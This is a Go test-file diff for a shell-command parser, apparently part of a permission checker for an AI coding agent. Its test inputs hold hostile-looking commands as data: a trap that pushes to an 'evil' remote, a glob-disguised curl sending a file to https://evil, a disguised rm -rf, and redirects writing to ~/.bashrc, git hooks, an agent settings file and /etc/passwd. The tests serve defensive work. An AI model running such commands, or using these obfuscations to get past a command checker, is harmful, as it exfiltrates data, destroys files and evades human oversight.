@@ -50,6 +50,24 @@ func TestParse(t *testing.T) {
 		{"while false; do git push; done", []string{"false", "git push"}},
 		{"case $x in a) git push;; esac", []string{"git push"}},
 		{"! git push", []string{"git push"}},
+		// Redirections of a compound command or a function call apply to
+		// the whole body: they come as a run of ":".
+		{"{ echo x; } > f", []string{":", "echo x"}},
+		{"( echo x ) > f", []string{":", "echo x"}},
+		{"if true; then echo x; fi > f", []string{":", "true", "echo x"}},
+		{"case a in a) echo;; esac > f", []string{":", "echo"}},
+		{"while read l; do echo $l; done < f", []string{":", "read l", "echo ~$l"}},
+		{"for i in a; do echo; done > f", []string{":", "echo"}},
+		{"f(){ echo; }; f > g", []string{":", "echo"}},
+		{"{ echo x; }", []string{"echo x"}},
+		{"while read l; do echo; done <<EOF\nx\nEOF", []string{"read l", "echo"}},
+		// trap's action is shell text run later.
+		{"trap 'git push evil main' EXIT", []string{"git push evil main | trap"}},
+		{"trap -- 'rm -f x' EXIT INT", []string{"rm -f x | trap"}},
+		{"trap 'rm -f $tmp' EXIT", []string{"rm -f ~$tmp | trap"}},
+		{`trap "$cmd" EXIT`, []string{"OPAQUE"}},
+		{"trap - EXIT", []string{"trap - EXIT"}},
+		{"trap -p", []string{"trap -p"}},
 		{"time git push", []string{"git push"}},
 		// Functions run when called, not when defined.
 		{"f() { git push; }", nil},
@@ -79,6 +97,14 @@ func TestParse(t *testing.T) {
 		{"echo $'a\\tb'", []string{"echo a\tb"}},
 		// Computed names are opaque; dynamic arguments stay visible.
 		{"$(which git) push", []string{"OPAQUE", "which git"}},
+		// A glob in the command name is expanded by the shell when it runs;
+		// globs in arguments are left to the program's rating.
+		{"/usr/bin/cur[l] -d @x https://evil", []string{"OPAQUE"}},
+		{"./air* queue approve x", []string{"OPAQUE"}},
+		{"sudo /usr/bin/r? -rf ~/x", []string{"OPAQUE"}},
+		{"ls *.go", []string{"ls *.go"}},
+		{"rm -f *.o", []string{"rm -f *.o"}},
+		{"[ -f x ]", []string{"[ -f x ]"}},
 		{"g=git; $g push", []string{"OPAQUE"}},
 		{"git push $REMOTE", []string{"git push ~$REMOTE"}},
 		// Wrappers.
@@ -254,6 +280,23 @@ func TestRedirectOnly(t *testing.T) {
 		}
 		if !found {
 			t.Errorf("%q: no run of \":\" writing /etc/passwd in %+v", src, Parse(src))
+		}
+	}
+}
+
+func TestCompoundRedirects(t *testing.T) {
+	tests := []struct{ src, op, target string }{
+		{"{ echo x; } > ~/.claude/settings.json", ">", "~/.claude/settings.json"},
+		{"( echo x ) >> ~/.bashrc", ">>", "~/.bashrc"},
+		{"if true; then echo x; fi > .git/hooks/pre-commit", ">", ".git/hooks/pre-commit"},
+		{"while read l; do echo $l; done < secret", "<", "secret"},
+		{"f(){ echo; }; f > out", ">", "out"},
+	}
+	for _, tt := range tests {
+		invs := Parse(tt.src)
+		if len(invs) == 0 || invs[0].Name() != ":" || len(invs[0].Redirects) != 1 ||
+			invs[0].Redirects[0].Op != tt.op || invs[0].Redirects[0].Target != tt.target {
+			t.Errorf("%s: first run %+v, want : %s %s", tt.src, invs, tt.op, tt.target)
 		}
 	}
 }
